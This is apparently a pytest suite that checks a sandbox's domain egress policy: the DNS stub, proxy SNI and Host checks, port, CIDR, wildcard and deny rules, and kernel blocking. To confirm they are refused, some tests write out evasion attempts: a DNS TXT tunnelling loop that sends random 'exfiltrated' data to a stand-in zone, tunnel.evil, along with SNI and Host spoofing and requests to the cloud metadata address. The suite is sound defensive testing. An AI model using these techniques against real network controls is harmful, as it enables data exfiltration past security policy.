"""Domain policy end to end: DNS stub, names on events, the proxy's checks, real upstreams.

Upstream servers run in a network namespace the tests create (see upstream.py); jobs reach
them through --add-host, the only way a test name gets an address (there is no internet).
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from netjail import Client, Event, JobResult

from .conftest import Daemon
from .upstream import UPSTREAM_ADDR, Upstream

pytestmark = pytest.mark.usefixtures("no_leaks")


@pytest.fixture
def client(backend_daemon: Daemon) -> Client:
    """Every test here runs against each firewall/log backend."""
    return backend_daemon.client()


PY = "/usr/bin/python3"
API = "api.example.test"


def run(
    client: Client, upstream: Upstream, argv: list[str], allow: list[str], **kwargs: object
) -> JobResult:
    env = {"CURL_CA_BUNDLE": upstream.ca_file, "SSL_CERT_FILE": upstream.ca_file}
    hosts = [f"{name}:{UPSTREAM_ADDR}" for name in (API, "a.example.test", "other.example.test")]
    return client.run(
        argv,
        env=env,
        allow=allow,
        add_hosts=hosts,
        binds=[upstream.ca_bind],
        stdio="capture",
        cwd="/",
        on_event=lambda e: None,
        **kwargs,  # type: ignore[arg-type]
    )


def by_kind(result: JobResult, kind: str, via: str | None = None) -> list[Event]:
    return [e for e in result.events if e.kind == kind and (via is None or e.via == via)]


def test_allowed_name_works_with_curl_over_tls(client: Client, upstream: Upstream) -> None:
    """HTTPS to an allowed name goes through the proxy end to end, and is reported by name."""
    result = run(client, upstream, ["curl", "-sS", "--max-time", "20", f"https://{API}/x"], [API])
    assert (result.exit_code, result.stdout) == (0, f"hello from {API}\n".encode()), result.stderr
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.domain, conn.port, conn.proto) == ("allowed", API, 443, "tcp")
    assert conn.dst is not None
    assert conn.dst.startswith("198.18.")
    assert conn.bytes_out is not None
    assert conn.bytes_in is not None
    assert conn.bytes_out > 0
    assert conn.bytes_in > 0
    assert {(e.domain, e.qtype, e.verdict) for e in by_kind(result, "dns")} >= {
        (API, "A", "allowed")
    }
    summary = result.report.domains[API]
    assert summary.allowed >= 1
    assert summary.blocked == 0
    assert summary.bytes_in == conn.bytes_in


def test_allowed_name_works_with_python_over_tls(client: Client, upstream: Upstream) -> None:
    """Python's urllib (its own resolver and TLS stack) works the same way."""
    code = (
        f"import urllib.request; print(urllib.request.urlopen('https://{API}/', timeout=20).read())"
    )
    result = run(client, upstream, [PY, "-c", code], [API])
    assert result.stdout == f"b'hello from {API}\\n'\n".encode(), result.stderr


def test_allowed_name_works_over_plain_http(client: Client, upstream: Upstream) -> None:
    """Plain HTTP to an allowed name is relayed after its Host header is checked."""
    result = run(client, upstream, ["curl", "-sS", "--max-time", "20", f"http://{API}/"], [API])
    assert result.stdout == f"hello from {API}\n".encode(), result.stderr
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.port) == ("allowed", 80)


def test_tcp_inside_the_jail_is_not_paced(client: Client, upstream: Upstream) -> None:
    """The jail's TCP default is reno, whatever the host's: pacing (bbr) would halve the
    local hop to the proxy. The job's socket to the proxy shows it, and the relay still works."""
    code = (
        "import socket\n"
        f"s = socket.create_connection(('{API}', 80), timeout=20)\n"
        "cc = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_CONGESTION, 16)\n"
        "print(cc.rstrip(b'\\0').decode())\n"
        "print(open('/proc/sys/net/ipv4/tcp_congestion_control').read().strip())\n"
        f"s.sendall(b'GET / HTTP/1.0\\r\\nHost: {API}\\r\\n\\r\\n')\n"
        "print(b'hello from' in s.makefile('rb').read())\n"
    )
    result = run(client, upstream, [PY, "-c", code], [API])
    assert result.stdout == b"reno\nreno\nTrue\n", result.stderr


def test_name_not_allowed_fails_fast_and_is_reported_by_name(
    client: Client, upstream: Upstream
) -> None:
    """A name not allowed does not resolve (curl exit 6) and the query is reported by name."""
    result = run(
        client, upstream, ["curl", "-sS", "--max-time", "20", "https://api.stripe.com/"], [API]
    )
    assert result.exit_code == 6
    blocked = {(e.domain, e.qtype) for e in by_kind(result, "dns") if e.verdict == "blocked"}
    assert ("api.stripe.com", "A") in blocked
    assert result.report.domains["api.stripe.com"].blocked >= 1


def test_allowed_name_on_a_port_not_allowed_is_blocked_with_the_domain(
    client: Client, upstream: Upstream
) -> None:
    """api.example.test:8443 with only 80/443 allowed: refused at once, reason port_not_allowed."""
    result = run(
        client, upstream, ["curl", "-sS", "--max-time", "20", f"https://{API}:8443/"], [API]
    )
    assert result.exit_code in (7, 35, 56)  # refused or reset, not a timeout (28)
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.domain, conn.port, conn.reason) == (
        "blocked",
        API,
        8443,
        "port_not_allowed",
    )


def test_explicit_port_rule_allows_that_port(client: Client, upstream: Upstream) -> None:
    """A rule with :8443 allows that port."""
    result = run(
        client,
        upstream,
        ["curl", "-sS", "--max-time", "20", f"https://{API}:8443/"],
        [f"{API}:8443"],
    )
    assert result.stdout == f"hello from {API}:8443\n".encode(), result.stderr


def test_client_reset_before_the_check_is_reported(client: Client, upstream: Upstream) -> None:
    """A job that sends half a ClientHello and resets gets a client_reset event, nothing else."""
    code = (
        "import socket, struct, time\n"
        f"s = socket.create_connection(('{API}', 443), timeout=20)\n"
        "s.sendall(bytes([0x16, 3, 1, 0, 200]))\n"
        "time.sleep(1)\n"  # the proxy is now waiting for the rest of the hello
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\n"
        "s.close()\n"
        "time.sleep(0.5)\n"
    )
    result = run(client, upstream, [PY, "-c", code], [API])
    assert result.exit_code == 0, result.stderr
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.domain, conn.port, conn.reason) == (
        "blocked",
        API,
        443,
        "client_reset",
    )


def test_sni_of_another_name_is_blocked(client: Client, upstream: Upstream) -> None:
    """Connecting to api's synthetic address with SNI other.example.test: sni_mismatch."""
    argv = [
        "curl",
        "-sS",
        "--max-time",
        "20",
        "--connect-to",
        f"other.example.test:443:{API}:443",
        "https://other.example.test/",
    ]
    result = run(client, upstream, argv, [API])
    assert result.exit_code != 0
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.domain, conn.reason) == ("blocked", API, "sni_mismatch")
    assert upstream.requests.count("other.example.test") == 0


def test_http_host_of_another_name_is_blocked(client: Client, upstream: Upstream) -> None:
    """Plain HTTP to api's address with Host: other.example.test is blocked (host_mismatch)."""
    argv = ["curl", "-sS", "--max-time", "20", "-H", "Host: other.example.test", f"http://{API}/"]
    result = run(client, upstream, argv, [API])
    assert result.exit_code != 0
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.reason) == ("blocked", "host_mismatch")


def test_dns_tunnelling_under_a_denied_zone_is_refused_and_logged(
    client: Client, upstream: Upstream
) -> None:
    """Long TXT queries under a denied zone get NXDOMAIN, each one logged; nothing leaves."""
    code = (
        "import socket, os\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(20)\n"
        "codes = []\n"
        "for i in range(5):\n"
        "    label = os.urandom(28).hex().encode()\n"  # 56 chars of 'exfiltrated' data
        "    name = bytes([len(label)]) + label + b'\\x06tunnel\\x04evil\\x00'\n"
        "    header = i.to_bytes(2, 'big') + bytes.fromhex('01000001000000000000')\n"
        "    q = header + name + bytes.fromhex('00100001')\n"
        "    s.sendto(q, ('127.0.0.1', 53))\n"
        "    codes.append(s.recv(512)[3] & 0x0F)\n"
        "print(codes)\n"
    )
    result = run(client, upstream, [PY, "-c", code], [API])
    assert result.stdout == b"[3, 3, 3, 3, 3]\n", result.stderr
    txt = [e for e in by_kind(result, "dns") if e.qtype == "TXT"]
    assert len(txt) == 5
    assert all(
        e.verdict == "blocked" and e.domain and e.domain.endswith(".tunnel.evil") for e in txt
    )


def test_hard_coded_ip_is_still_blocked_by_the_kernel(client: Client, upstream: Upstream) -> None:
    """With a policy in place, a connect to the upstream's real IP is rejected and logged."""
    result = run(
        client, upstream, ["curl", "-sS", "--max-time", "20", f"http://{UPSTREAM_ADDR}/"], [API]
    )
    assert result.exit_code == 7
    [event] = by_kind(result, "egress")
    assert (event.verdict, event.dst, event.port) == ("blocked", UPSTREAM_ADDR, 80)
    assert event.via in ("nflog", "kmsg")  # the kernel logged it, whichever log backend


def test_cidr_rule_allows_that_address_through_the_proxy(
    client: Client, upstream: Upstream
) -> None:
    """An explicit CIDR:port rule lets a hard-coded IP through (relayed by the proxy)."""
    result = run(
        client,
        upstream,
        ["curl", "-sS", "--max-time", "20", f"http://{UPSTREAM_ADDR}/"],
        [f"{UPSTREAM_ADDR}/32:80"],
    )
    assert result.stdout == f"hello from {UPSTREAM_ADDR}\n".encode(), result.stderr


# Both names are in the suite daemon's hosts table (conftest.TEST_CONFIG): loopback.example.test
# is 127.0.0.1, metadata.example.test is 169.254.169.254.
@pytest.mark.parametrize("name", ["loopback.example.test", "metadata.example.test"])
def test_upstream_resolving_to_a_forbidden_address_is_refused(client: Client, name: str) -> None:
    """An allowed name whose upstream is loopback or the metadata address: upstream_forbidden."""
    result = client.run(
        ["curl", "-sS", "--max-time", "20", f"http://{name}/"],
        allow=[name],
        stdio="capture",
        cwd="/",
        on_event=lambda e: None,
    )
    assert result.exit_code in (7, 52, 56)
    [conn] = by_kind(result, "egress", "proxy")
    assert (conn.verdict, conn.domain, conn.reason) == ("blocked", name, "upstream_forbidden")


def test_wildcard_allows_subdomains_but_not_the_name_itself(
    client: Client, upstream: Upstream
) -> None:
    """*.example.test allows a.example.test, not example.test."""
    argv = [
        "sh",
        "-c",
        "getent hosts a.example.test; echo rc=$?; getent hosts example.test; echo rc=$?",
    ]
    result = run(client, upstream, argv, ["*.example.test"])
    lines = result.stdout.decode().splitlines() if result.stdout else []
    assert lines[0].split()[0].startswith("198.18.")
    assert lines[1:] == ["rc=0", "rc=2"]
    verdicts = {(e.domain, e.verdict) for e in by_kind(result, "dns") if e.qtype == "A"}
    assert verdicts == {("a.example.test", "allowed"), ("example.test", "blocked")}


def test_deny_beats_allow(client: Client, upstream: Upstream) -> None:
    """--deny api.example.test wins over --allow *.example.test."""
    result = run(
        client,
        upstream,
        ["curl", "-sS", "--max-time", "20", f"https://{API}/"],
        ["*.example.test"],
        deny=[API],
    )
    assert result.exit_code == 6
    assert (API, "blocked") in {(e.domain, e.verdict) for e in by_kind(result, "dns")}


def test_bad_rules_are_refused_with_a_clear_message(client: Client) -> None:
    """Over-broad or malformed rules never start a job."""
    for rule in ("*", "*.com", "exa mple.com", "example.com:0"):
        with pytest.raises(Exception, match="rule") as info:
            client.run(["true"], allow=[rule], cwd="/")
        assert "\n" not in str(info.value)


def test_cli_names_domains_in_event_lines(
    daemon: Daemon, upstream: Upstream, tmp_path: Path
) -> None:
    """The CLI prints `blocked dns NAME A`, and allowed connections only with --verbose."""
    base = [
        sys.executable,
        "-m",
        "netjail.cli",
        "--socket",
        daemon.socket,
        "run",
        "--cwd",
        "/",
        "--allow",
        API,
        "--add-host",
        f"{API}:{UPSTREAM_ADDR}",
        "--env",
        f"CURL_CA_BUNDLE={upstream.ca_file}",
        "--ro-bind",
        upstream.ca_file,
    ]
    quiet = subprocess.run(
        [
            *base,
            "--",
            "sh",
            "-c",
            f"curl -sS https://{API}/ >/dev/null 2>&1; "
            "curl -sS https://api.stripe.com/ 2>/dev/null",
        ],
        capture_output=True,
        timeout=60,
        check=False,
    )
    lines = quiet.stderr.decode().splitlines()
    # Named by the curl that asked, with its pid inside the job.
    blocked = r"netjail: blocked dns api\.stripe\.com A by curl \(pid \d+\)"
    assert any(re.fullmatch(blocked, line) for line in lines), lines
    assert not any(line.startswith("netjail: allowed") for line in lines)
    report = tmp_path / "report.json"
    verbose = subprocess.run(
        [*base, "--verbose", "--report", str(report), "--", "curl", "-sS", f"https://{API}/"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert (verbose.returncode, verbose.stdout) == (0, f"hello from {API}\n".encode())
    allowed = [
        line
        for line in verbose.stderr.decode().splitlines()
        if line.startswith("netjail: allowed tcp")
    ]
    assert len(allowed) == 1
    assert allowed[0].startswith(f"netjail: allowed tcp {API} (198.18.")
    # The uid the job ran as: leased from the daemon's own block.
    uid = json.loads(report.read_text())["uid"]
    assert uid in daemon.job_uids
    assert re.search(rf"\):443 by curl \(pid \d+\) uid={uid} out=", allowed[0]), allowed


def test_kernel_events_to_a_synthetic_address_name_the_domain(
    client: Client, upstream: Upstream
) -> None:
    """UDP (e.g. QUIC) to an allowed name's address is rejected by the kernel, named by domain."""
    code = (
        "import socket\n"
        f"address = socket.getaddrinfo('{API}', 443, socket.AF_INET)[0][4][0]\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendto(b'quic?', (address, 443))\n"
        "except PermissionError:\n"
        "    print('rejected', address)\n"
    )
    result = run(client, upstream, [PY, "-c", code], [API])
    assert result.stdout is not None
    assert result.stdout.startswith(b"rejected 198.18."), result.stderr
    [event] = by_kind(result, "egress")
    assert (event.verdict, event.proto, event.port, event.domain) == ("blocked", "udp", 443, API)
    assert event.dst == result.stdout.split()[1].decode()
    assert event.via in ("nflog", "kmsg")
